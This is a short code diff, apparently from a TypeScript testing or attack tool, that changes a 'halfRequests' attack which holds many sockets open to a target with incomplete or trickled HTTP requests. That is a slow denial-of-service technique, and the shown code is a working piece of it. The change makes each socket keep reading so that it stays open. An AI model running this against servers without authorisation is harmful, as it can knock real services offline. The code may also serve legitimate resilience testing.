@@ -18,7 +18,7 @@ export const halfRequests: Attack = {
     const { hostname, port } = new URL(origin)
     const hold = async (at: number) => {
       const kind = at % BEGINNINGS.length
-      const socket = connect(Number(port), hostname)
+      const socket = connect(Number(port), hostname).resume() // what is not read ends nothing
       socket.on('error', () => {})
       socket.once('close', () => signal.aborted || count(`${['silent', 'head', 'body'][kind]} cut`))
       const trickle = setInterval(() => kind === 2 && socket.write(' '), PAUSE)
